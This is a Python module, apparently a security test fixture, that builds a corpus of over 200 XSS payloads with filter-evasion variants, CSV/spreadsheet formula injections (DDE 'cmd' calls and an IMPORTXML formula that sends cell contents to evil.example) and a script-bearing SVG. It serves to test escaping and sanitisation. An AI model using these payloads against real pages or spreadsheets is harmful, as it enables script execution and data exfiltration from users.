"""Texts that attack whoever shows them: markup, templates, spreadsheets, hidden characters."""

from __future__ import annotations

#: What a page calls if any of it runs; the browser of the tests listens for it.
CALLS = ("pwned(1)", "window['pwned'](2)", "top.pwned(3)", "fetch('//evil.example/x')")
_MARKUP = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src onerror={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<form action=javascript:{}><button autofocus onfocus={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</select></option><script>{}</script>",
    "</bdi></dd></dl><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script><!--",
    "<![CDATA[<script>{}</script>]]>",
    "<template><script>{}</script></template><script>{}</script>",
    "<style>@import '//evil.example/x.css';</style><img src=x onerror={}>",
    "<div style=\"background:url('//evil.example/x')\" onmouseenter={}>",
    '" onmouseover="{}" style="position:fixed;inset:0" x="',
    "' autofocus onfocus='{}' x='",
    "` onerror=`{}`",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "\x00<script>{}</script>",
    "<\x00script>{}</script>",
    "<script\x0c>{}</script\x0c>",
    "\u202e<script>{}</script>\u202c",
    "\ufeff<script>{}</script>\u200b",
    "{{{{ {} }}}}",
    "{{% for x in () %}}{}{{% endfor %}}",
)
#: What a spreadsheet would run.
FORMULAS = (
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1"',
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1:A9), '//a')",
    "\uff1d1+1",
    "\uff0b1+1",
)
#: Every one of them, more than 200.
CORPUS = (*(markup.replace("{}", call) for call in CALLS for markup in _MARKUP), *FORMULAS)
#: An image that is a program.
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='pwned(9)'><script>pwned(9)</script></svg>"
